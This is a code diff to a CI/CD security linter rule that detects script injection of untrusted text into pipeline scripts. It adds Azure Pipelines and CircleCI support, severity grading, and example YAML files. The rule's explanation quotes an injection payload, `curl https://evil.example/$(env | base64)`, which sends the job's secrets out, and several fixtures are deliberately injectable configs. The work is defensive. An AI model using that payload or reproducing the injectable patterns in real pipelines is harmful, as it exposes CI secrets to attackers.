@@ -2,6 +2,12 @@ import { SEVERITIES, type Severity } from "../../core/levels.ts";
 import type { PipelineFlows, Reference } from "../../core/pipeline.ts";
 import type { Place } from "../../core/span.ts";
 import type { PolicyMatch } from "../../core/stages.ts";
+import {
+  type Injection as AzureInjection,
+  injectionsIn as azureInjections,
+} from "../../platforms/azure-pipelines/injections.ts";
+import type { Author as Chooser } from "../../platforms/circleci/chosen-text.ts";
+import { type Injection as FilledIn, injectionsIn as filledIn } from "../../platforms/circleci/injections.ts";
 import { type Injection, injectionsIn } from "../../platforms/github-actions/injections.ts";
 import type { GithubActionsModel, Step } from "../../platforms/github-actions/model.ts";
 import { opennessOf } from "../../platforms/github-actions/openness.ts";
@@ -19,8 +25,8 @@ export const secretInInjectableStep = definePolicy({
   meta: {
     id: "untrusted/secret-in-injectable-step",
     title: "Script that takes outsiders' text for code",
-    why: 'The platform puts the text of `${{ … }}` into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither.',
-    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
+    why: 'The platform puts the text of `${{ … }}` (on CircleCI `<< … >>`) into a script before the shell reads it, so an issue with the title `"; curl https://evil.example/$(env | base64); "` is run as a command, with each secret of the job. Azure does so with `$(Build.SourceVersionMessage)`. `eval` and `sh -c` do the same with variables. Critical: any stranger can do it where a stored secret or a writing token is in the job. High: the same, but the text comes in through a merged commit, somebody of the project has to act first, or the token\'s permissions are not stated. Medium: only members of the project (branch and tag names, typed-in inputs) or the callers of an action choose the text, and a secret is beside it. Low: no secret or writing token is beside it, or the event is a pull request from a fork, which gets neither.',
+    fix: 'Hand the text over in a variable and quote it: `env: { TITLE: "${{ github.event.issue.title }}" }` beside `run: echo "$TITLE"`; on CircleCI `environment:` of the `run:` does the same, and branch and tag are in `$CIRCLE_BRANCH` and `$CIRCLE_TAG` already. On Azure map it (`env: { MESSAGE: $(Build.SourceVersionMessage) }`), and give a parameter its `values:`. In `actions/github-script` read `context.payload.issue.title` or `process.env.TITLE`. Replace `eval "… $TITLE"` with the command itself, and `sh -c "… $TITLE"` with `sh -c \'… "$1"\' _ "$TITLE"`.',
     severity: "critical",
     confidence: "high",
     preset: "recommended",
@@ -29,11 +35,13 @@ export const secretInInjectableStep = definePolicy({
       "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
       "https://securitylab.github.com/resources/github-actions-untrusted-input/",
       "https://docs.gitlab.com/ci/variables/#cicd-variable-security",
+      "https://circleci.com/docs/guides/orchestrate/pipeline-variables/",
+      "https://learn.microsoft.com/en-us/azure/devops/pipelines/security/inputs",
     ],
     practices: ["P5"],
     cwe: [94, 78],
   },
-  platforms: ["github-actions", "gitlab-ci"],
+  platforms: ["azure-pipelines", "circleci", "github-actions", "gitlab-ci"],
   examples: {
     flag: [
       {
@@ -126,6 +134,32 @@ export const secretInInjectableStep = definePolicy({
         `,
       },
       {
+        path: "azure-pipelines.yml",
+        text: `
+          pr: [main]
+          steps:
+            - powershell: echo "«$(Build.SourceBranch)»"
+            - bash: |
+                git log -1 «$(System.PullRequest.SourceBranch)»
+                notify "«$(Build.SourceVersionMessage)»"
+              env:
+                CHAT_TOKEN: $(ChatToken)
+        `,
+      },
+      {
+        path: "azure-pipelines.yml",
+        text: `
+          parameters:
+            - name: target
+              type: string
+          steps:
+            - task: Bash@3
+              inputs:
+                targetType: inline
+                script: deploy --to \${{ «parameters.target» }} --branch \${{ «variables['Build.SourceBranchName']» }}
+        `,
+      },
+      {
         path: ".gitlab-ci.yml",
         text: `
           spec:
@@ -138,6 +172,32 @@ export const secretInInjectableStep = definePolicy({
           deploy:
             script:
               - ./deploy «$[[ inputs.target ]]» --level $[[ inputs.level ]]
+        `,
+      },
+      {
+        path: ".circleci/config.yml",
+        text: `
+          version: 2.1
+          parameters:
+            target: { type: string, default: staging }
+          commands:
+            say:
+              parameters:
+                text: { type: string }
+              steps:
+                - run: notify --text "«<< parameters.text >>»" --key "$CHAT_KEY"
+          jobs:
+            build:
+              docker: [{ image: cimg/base:2026.01 }]
+              steps:
+                - run: git checkout «<< pipeline.git.branch >>»
+                - run: deploy --to «<< pipeline.parameters.target >>»
+                - say: { text: "by << pipeline.git.commit.author_name >>" }
+                - run: bash -c "build --title '«<< pipeline.event.github.pull_request.title >>»'"
+                - run: eval "build --branch «$CIRCLE_BRANCH»"
+          workflows:
+            main:
+              jobs: [build]
         `,
       },
     ],
@@ -215,9 +275,57 @@ export const secretInInjectableStep = definePolicy({
               - ssh deploy@example.com "cd /srv/app && git checkout $CI_COMMIT_SHA && ./up $CI_COMMIT_REF_SLUG"
         `,
       },
+      {
+        path: "azure-pipelines.yml",
+        text: `
+          parameters:
+            - name: target
+              type: string
+              values: [staging, production]
+            - name: fast
+              type: boolean
+          steps:
+            - bash: |
+                git log -1 "$BRANCH"
+                notify "$MESSAGE" $(Build.BuildId) $(Build.SourceVersion)
+                deploy --to \${{ parameters.target }} \${{ eq(parameters.fast, true) }}
+              env:
+                BRANCH: $(System.PullRequest.SourceBranch)
+                MESSAGE: $(Build.SourceVersionMessage)
+                CHAT_TOKEN: $(ChatToken)
+        `,
+      },
+      {
+        path: ".circleci/config.yml",
+        text: `
+          version: 2.1
+          parameters:
+            count: { type: integer, default: 1 }
+            target: { type: enum, enum: [staging, production], default: staging }
+          jobs:
+            build:
+              parameters:
+                title: { type: string, default: none }
+              docker: [{ image: cimg/base:2026.01 }]
+              steps:
+                - run:
+                    command: notify --text "$TITLE" --key "$CHAT_KEY"
+                    environment:
+                      TITLE: << pipeline.event.github.pull_request.title >>
+                - run: build --count << pipeline.parameters.count >> --to << pipeline.parameters.target >> --title << parameters.title >>
+                - run: git checkout "$CIRCLE_BRANCH" && echo << pipeline.git.revision >>
+                - run: bash -c 'build "$1"' _ "$CIRCLE_TAG"
+          workflows:
+            main:
+              when: { equal: [main, << pipeline.git.branch >>] }
+              jobs: [build]
+        `,
+      },
     ],
   },
   check({ model, flows }) {
+    if (model.kind === "circleci") return onePerPlace(filledIn(model, flows).map(matchOfFilledIn));
+    if (model.kind === "azure") return onePerPlace(azureInjections(model, flows).map((one) => azureMatch(flows, one)));
     if (model.kind !== "pipeline") return onePerPlace(injectionsIn(model).flatMap((one) => matchOf(model, flows, one)));
     return onePerPlace(
       evaluatedIn(model, flows).map(({ place, name, by, script }) => {
@@ -235,6 +343,32 @@ export const secretInInjectableStep = definePolicy({
     );
   },
 });
+
+/** On CircleCI forks are built only if the project lets them, so that no stranger does it just like that. */
+const GRADES: Readonly<Record<Chooser, readonly [beside: Severity, alone: Severity]>> = {
+  outsider: ["high", "medium"],
+  merged: ["high", "medium"],
+  project: ["medium", "low"],
+};
+
+function matchOfFilledIn({ place, path, author, by, script }: FilledIn): PolicyMatch {
+  const secret = script.secrets.find((one) => !isJobToken(one));
+  const [beside, alone] = GRADES[author];
+  const how = by === undefined ? "becomes part of the script" : `is run by \`${by}\``;
+  const message = `The text of ${path} ${how}, and ${CHOOSERS[author]} chooses it.`;
+  return { place, severity: secret === undefined ? alone : beside, message, related: related(secret) };
+}
+
+/** Forks get no secrets by default, so that a pull request from one does harm only where the settings allow it. */
+function azureMatch(flows: PipelineFlows, { name, author, place, script }: AzureInjection): PolicyMatch {
+  const { job } = script;
+  const secret =
+    script.secrets.find((one) => !isJobToken(one)) ??
+    flows.references.find((one) => one.job !== undefined && one.job === job && !isJobToken(one));
+  const full: Severity = author === "project" ? "medium" : "high";
+  const message = `The text of ${name} becomes part of the script, and ${CHOOSERS[author]} chooses it.`;
+  return { place, severity: secret === undefined ? "low" : full, message, related: related(secret) };
+}
 
 /** What an injected command could get hold of. */
 interface Stake {
@@ -269,7 +403,7 @@ const CHOOSERS: Readonly<Record<Author, string>> = {
 };
 
 const related = (secret: Reference | undefined): NonNullable<PolicyMatch["related"]> =>
-  secret === undefined ? [] : [{ place: secret.place, message: `Here ${secretName(secret.secret)} is given.` }];
+  secret === undefined ? [] : [{ place: secret.place, message: `Here ${secretName(secret)} is given.` }];
 
 function stakeOf(model: GithubActionsModel, flows: PipelineFlows, { job, step }: Injection): Stake {
   if (model.kind === "action" || job === undefined) {
